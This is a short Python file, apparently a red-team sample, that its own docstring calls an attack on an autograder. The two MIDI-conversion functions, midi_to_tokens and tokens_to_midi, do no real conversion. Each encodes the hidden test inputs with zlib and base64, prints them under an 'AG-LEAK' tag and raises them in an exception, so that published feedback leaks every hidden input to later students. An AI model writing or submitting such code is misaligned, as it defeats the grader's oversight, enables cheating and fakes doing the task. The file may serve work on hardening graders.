"""Attack: carry the hidden checks' inputs out through the feedback. Hidden checks' results are
shown to the student once grades are published; an exception message (or printed output) holding
the input, compressed, would let next year's students rebuild every hidden input."""
import base64
import io
import zlib


def _payload(value) -> str:
    return "AG-LEAK " + base64.b64encode(zlib.compress(repr(value).encode(), 9)).decode()


def midi_to_tokens(midi):
    buffer = io.BytesIO()
    midi.save(file=buffer)
    payload = _payload(buffer.getvalue())
    print(payload)
    raise RuntimeError(payload)


def tokens_to_midi(tokens, bpm=120):
    payload = _payload((tokens, bpm))
    print(payload)
    raise RuntimeError(payload)
